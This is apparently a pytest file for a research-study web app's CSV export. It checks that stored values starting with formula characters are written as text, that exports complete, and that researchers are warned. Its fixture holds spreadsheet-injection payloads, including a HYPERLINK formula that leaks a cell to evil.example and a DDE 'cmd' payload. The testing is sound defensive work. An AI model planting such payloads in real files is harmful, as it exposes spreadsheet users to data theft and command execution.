"""Whatever a participant managed to store, every export completes, writes no cell that a
spreadsheet runs as a formula, and tells the researcher what it had to write as text.

Regressions: a response stored with `"client": {"hidden_ms": "=1+1"}` made participants.csv
stop half-way (ValueError inside the stream, after the headers had gone out), on PostgreSQL
and SQLite, over HTTP and with `manage.py export`; on SQLite a lone surrogate in the client
information did the same to responses.csv (UnicodeEncodeError); formulas from the client
information went into responses.csv verbatim. The API refuses all of these now, so these
tests store them as a row written before it did would hold them."""

import io

import pandas as pd
import pytest
from django.core.management import call_command
from django.db import connection
from django.utils.html import escape
from rest_framework.test import APIClient

from studies.models import AuditLog, Response
from studies.services import export
from studies.services.export.cells import FORMULA_START, safe
from tests import factories
from tests.conftest import ParticipantClient

pytestmark = pytest.mark.django_db
TABLES = ["responses", "participants", "items"]


@pytest.fixture
def study(tmp_path):
    study = factories.study(tmp_path, slug="hostile", per_participant=3)
    for _ in range(2):
        client = ParticipantClient(APIClient(), study.slug)
        client.enter()
        client.consent()
        client.complete()
    return study


def staff_csv(study, table: str) -> str:
    staff = APIClient()
    staff.force_login(factories.researcher())
    reply = staff.get(f"/api/v1/studies/{study.slug}/export/{table}.csv")
    assert reply.status_code == 200
    return b"".join(reply.streaming_content).decode("utf-8")


def command_csv(study, table: str) -> str:
    out = io.StringIO()
    call_command("export", study.slug, table, stdout=out)
    return out.getvalue()


def read(text: str) -> pd.DataFrame:
    return pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)


def text_cells(frame: pd.DataFrame) -> list[str]:
    return [cell for column in frame.columns for cell in frame[column]]


@pytest.mark.parametrize("table", TABLES)
@pytest.mark.parametrize("how", ["http", "command"])
def test_a_formula_in_a_number_field_is_written_as_text_and_the_export_completes(study, table, how):
    first = Response.objects.order_by("id").first()
    Response.objects.filter(pk=first.pk).update(client={"hidden_ms": "=1+1", "dpr": True})
    text = staff_csv(study, table) if how == "http" else command_csv(study, table)
    frame = read(text)
    assert len(frame) == {"responses": 6, "participants": 2, "items": 6}[table]
    if table == "responses":
        row = frame[frame["trial_id"] == str(first.trial_id)].iloc[0]
        assert row["hidden_ms"] == "'=1+1" and row["dpr"] == "true"
    if table == "participants":
        # The sum leaves out what is not a number of ms; the report counts it.
        assert set(frame["hidden_ms"]) == {"0"}


def test_a_lone_surrogate_stored_by_sqlite_is_written_as_its_escape(study):
    if connection.vendor != "sqlite":
        # PostgreSQL never stored one (jsonb refuses it): the case is SQLite's alone.
        assert connection.vendor == "postgresql"
        return
    first = Response.objects.order_by("id").first()
    Response.objects.filter(pk=first.pk).update(client={"input": "\ud800", "hidden_ms": 5})
    for table in TABLES:
        frame = read(staff_csv(study, table))
        assert len(frame) == {"responses": 6, "participants": 2, "items": 6}[table]
    frame = read(staff_csv(study, "responses"))
    row = frame[frame["trial_id"] == str(first.trial_id)].iloc[0]
    assert row["input"] == "\\ud800" and row["hidden_ms"] == "5"


HOSTILE_CLIENT = {
    "dpr": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "viewport": "+1+cmd|' /C calc'!A0",
    "displayed": ["@SUM(A1:A9)", 3],
    "input": "\t=1+1",
    "hidden_ms": "-2+3",
    "hidden_count": "\r=1",
    "scaled": "=TRUE()",
    "explanation_views": "=1",
}


def test_no_cell_of_any_export_starts_a_formula(study):
    Response.objects.update(client=HOSTILE_CLIENT)
    for table in TABLES:
        for cell in text_cells(read(staff_csv(study, table))):
            assert not cell.startswith(FORMULA_START), (table, cell)
    frame = read(staff_csv(study, "responses"))
    assert set(frame["dpr"]) == {"'" + HOSTILE_CLIENT["dpr"]}
    assert set(frame["viewport_width"]) == {"'+1+cmd|' /C calc'!A0"}
    assert set(frame["displayed_width"]) == {'["@SUM(A1:A9)", 3]'}
    assert set(frame["input"]) == {"'\t=1+1"}
    assert set(frame["hidden_count"]) == {"'\r=1"}


def test_numbers_stay_numbers_and_a_negative_number_is_not_quoted(study):
    Response.objects.update(client={"dpr": 1.5, "hidden_ms": 0, "viewport": [1280, 800]})
    frame = pd.read_csv(io.StringIO(staff_csv(study, "responses")))
    assert frame["dpr"].dtype == float and frame["hidden_ms"].dtype == int
    assert frame["viewport_width"].tolist() == [1280] * 6


def test_only_text_cells_are_quoted():
    assert safe([-1, -2.5, "-1", "=A1", "a=b", "", None]) == [-1, -2.5, "'-1", "'=A1", "a=b", "", None]


@pytest.mark.parametrize(
    "answer, column, written",
    [
        ({"selected": "=1+1"}, "selected_labels", "'=1+1"),
        ({"selected": [["nested"]]}, "selected_labels", '[["nested"]]'),
        ("=1+1", "selected_labels", "'=1+1"),
        ([1, 2], "selected_labels", "[1, 2]"),
    ],
)
def test_an_answer_of_another_shape_is_written_as_text_in_its_column(study, answer, column, written):
    first = Response.objects.order_by("id").first()
    Response.objects.filter(pk=first.pk).update(answer=answer)
    frame = read(staff_csv(study, "responses"))
    assert len(frame) == 6
    row = frame[frame["trial_id"] == str(first.trial_id)].iloc[0]
    assert row[column] == written
    assert row["correct"] == "" and row["none_selected"] == ""
    assert len(read(staff_csv(study, "participants"))) == 2


def test_the_researcher_is_told_what_was_written_as_text(study, client):
    Response.objects.update(client={"hidden_ms": "=1+1", "dpr": "2"})
    staff_csv(study, "responses")
    entry = AuditLog.objects.get(study=study, action="export")
    assert entry.detail["table"] == "responses" and entry.detail["rows"] == 6
    assert entry.detail["as_text"] == {"hidden_ms": 6, "dpr": 6}
    warning = "12 stored values were not of their column's type and written as text: dpr (6), hidden_ms (6)."
    assert [w["warning"] for w in export.latest_warnings(study)] == [warning]
    client.force_login(factories.researcher())
    page = client.get(f"/studies/{study.slug}/dashboard/").content.decode()
    assert escape(warning) in page and "responses.csv" in page


def test_the_command_prints_the_warning(study, capsys):
    Response.objects.update(client={"hidden_ms": "=1+1"})
    out, err = io.StringIO(), io.StringIO()
    call_command("export", study.slug, "participants", stdout=out, stderr=err)
    assert len(read(out.getvalue())) == 2
    assert (
        "6 stored values were not of their column's type and written as text: hidden_ms (6)."
        in err.getvalue()
    )


def test_a_clean_export_is_recorded_without_a_warning(study):
    staff_csv(study, "participants")
    entry = AuditLog.objects.get(study=study, action="export")
    assert entry.detail == {"table": "participants", "by": "researcher", "rows": 2, "as_text": {}}
    assert export.latest_warnings(study) == []


def test_an_export_is_recorded_only_once_its_last_row_is_out(study):
    # A client that breaks off the download never gets that far: nothing is recorded.
    staff = APIClient()
    staff.force_login(factories.researcher())
    stream = iter(staff.get(f"/api/v1/studies/{study.slug}/export/responses.csv").streaming_content)
    next(stream)
    next(stream)
    assert not AuditLog.objects.filter(action="export").exists()
    assert len(list(stream)) == 5
    assert AuditLog.objects.get(action="export").detail["rows"] == 6
